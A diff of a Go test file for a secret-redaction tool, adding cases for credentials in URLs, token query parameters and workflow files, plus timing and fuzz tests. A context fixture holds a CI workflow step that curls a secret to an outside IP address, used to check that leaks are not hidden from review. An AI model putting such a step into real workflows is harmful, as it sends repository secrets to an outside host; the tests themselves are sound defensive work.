@@ -51,6 +51,44 @@ func TestRedact(t *testing.T) {
 	}
 }
 
+// TestRedactURLs: what stands where URLs have credentials goes, host and path stay. A workflow is what is judged, so less of it goes.
+func TestRedactURLs(t *testing.T) {
+	for given, want := range map[string]struct{ told, workflow string }{
+		"clone: from https://ada:flint@git.example.invalid/o/r": {"clone: from https://[REDACTED]@git.example.invalid/o/r", "clone: from https://[REDACTED]@git.example.invalid/o/r"},
+		"a://b:c@": {"a://[REDACTED]@", "a://b:c@"},
+		"https://ada@x.invalid:p@h.invalid:8443/o":                   {"https://[REDACTED]@h.invalid:8443/o", "https://[REDACTED]@h.invalid:8443/o"},
+		`"https:\/\/ada:flint@h.invalid\/o"`:                         {`"https:\/\/[REDACTED]@h.invalid\/o"`, `"https:\/\/[REDACTED]@h.invalid\/o"`},
+		"https://" + strings.Repeat("a1b2", 10) + "@github.com/o/r":  {"https://[REDACTED]@github.com/o/r", "https://[REDACTED]@github.com/o/r"},
+		"postgres://postgres:postgres@localhost:5432/test":           {"postgres://[REDACTED]@localhost:5432/test", "postgres://postgres:postgres@localhost:5432/test"},
+		"redis://:pass@127.0.0.1/":                                   {"redis://[REDACTED]@127.0.0.1/", "redis://:pass@127.0.0.1/"},
+		"https://x:${{ secrets.TOKEN }}@h.invalid/":                  {"https://x:${{ secrets.TOKEN }}@h.invalid/", "https://x:${{ secrets.TOKEN }}@h.invalid/"},
+		"https://x:${TOKEN}@h.invalid/":                              {"https://[REDACTED]@h.invalid/", "https://x:${TOKEN}@h.invalid/"},
+		"printf https://%s:%s@h.invalid/":                            {"printf https://[REDACTED]@h.invalid/", "printf https://%s:%s@h.invalid/"},
+		"https://h.invalid/x?page=2&access_token=" + "0a1b2c3d":      {"https://h.invalid/x?page=2&access_token=[REDACTED]", "https://h.invalid/x?page=2&access_token=[REDACTED]"},
+		`?a=b\u0026Sig=` + `abc%2Bdefgh%3D"`:                         {`?a=b\u0026Sig=[REDACTED]"`, `?a=b\u0026Sig=[REDACTED]"`},
+		"?a=b&amp;token=" + "AbCdEfGh&c=d":                           {"?a=b&amp;token=[REDACTED]&c=d", "?a=b&amp;token=[REDACTED]&c=d"},
+		"https://h.invalid/?token=${{ secrets.TOKEN }}":              {"", ""},
+		"https://h.invalid/?token=1&sig=short":                       {"", ""},
+		"https://h.invalid/?mytoken=abcdefghijk&tokens=abcdefghijk":  {"", ""},
+		"token=abcdefghijkl":                                         {"", ""},
+		"git@github.com:o/r.git ssh://git@github.com/o/r":            {"", ""},
+		"https://ada@h.invalid/o, ada@mail.example.invalid":          {"", ""},
+		"https://registry.invalid/@scope/x:1@2 https://h:80/a@b:c@d": {"", ""},
+	} {
+		if want.told == "" {
+			want.told, want.workflow = given, given
+		}
+		told, n := Redact([]byte(given))
+		workflow, m := redactWorkflow([]byte(given))
+		if string(told) != want.told || string(workflow) != want.workflow || n != strings.Count(want.told, redacted) || m != strings.Count(want.workflow, redacted) {
+			t.Errorf("%q: %d, %q; in a workflow %d, %q", given, n, told, m, workflow)
+		}
+		if text := redactText(given); text != want.told {
+			t.Errorf("%q: as a text %q", given, text)
+		}
+	}
+}
+
 // TestNoWorkflowHidesAsAKey: what is taken out is not judged, so whoever could have a workflow taken out would be clean.
 func TestNoWorkflowHidesAsAKey(t *testing.T) {
 	const leak = "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.X }} https://192.0.2.1/\n"
@@ -66,7 +104,7 @@ func TestNoWorkflowHidesAsAKey(t *testing.T) {
 		"carriage return":  "# " + keyFirst + "\n# " + keyBody + "\ron: push\n# " + keyLast + "\n",
 		"very far":         keyFirst + "\n" + strings.Repeat(keyBody+"\n", maxKey/len(keyBody)+1) + keyLast + "\n",
 	} {
-		if got, n := Redact([]byte(text)); n != 0 || string(got) != text {
+		if got, n := redactWorkflow([]byte(text)); n != 0 || string(got) != text {
 			t.Errorf("%s: %q", name, got)
 		}
 	}
@@ -83,6 +121,11 @@ func TestRedactInTime(t *testing.T) {
 		"half a JWT":       "ey" + "Jaaaaaaaa-" + tokenShaped + "-",
 		"JWT begins":       "ey" + "J",
 		"long name":        "py" + "pi-",
+		"URLs":             "a://b:c@d",
+		"no URLs":          ":@:/=",
+		"all at once":      "://@",
+		"parameters":       "?token=",
+		"equals":           "=",
 	} {
 		text := bytes.Repeat([]byte(part), (4<<20)/len(part))
 		began := time.Now()
@@ -150,13 +193,19 @@ func TestGateKnowsEveryShape(t *testing.T) {
 func TestGateMissesNothing(t *testing.T) {
 	part := rapid.SampledFrom([]string{"gh", "p_", "s_", "github_pat_", "pypi-", "npm_", "dckr_pat_", "rubygems_", "cio", "glpat-", "xoxb-", "xox", "p-", "sk_live_", "eyJ",
 		".eyJ", ".", "-----BEGIN RSA ", "PRIVATE KEY-----", "\n", " ", "=", strings.Repeat("0123456789abcdef", 6), strings.Repeat("Ab3", 12), "abcdefghij", "x", "'",
-		strings.Repeat("A", 64) + "\n", "-----END RSA PRIVATE KEY-----"})
+		strings.Repeat("A", 64) + "\n", "-----END RSA PRIVATE KEY-----", "://", `:\/\/`, "@", ":", "/", "$", "?token=", "&sig=", `\u0026`, "example.invalid"})
 	rapid.Check(t, func(t *rapid.T) {
 		text := []byte(strings.Join(rapid.SliceOfN(part, 0, 12).Draw(t, "text"), ""))
-		want, n := redactAll(text)
-		got, m := Redact(text)
-		if n != m || string(got) != string(want) {
-			t.Fatalf("%q: %d and %d taken out", text, m, n)
+		for _, workflow := range []bool{false, true} {
+			gated := Redact
+			if workflow {
+				gated = redactWorkflow
+			}
+			want, n := redactAll(text, workflow)
+			got, m := gated(text)
+			if n != m || string(got) != string(want) {
+				t.Fatalf("%q: %d and %d taken out", text, m, n)
+			}
 		}
 	})
 }
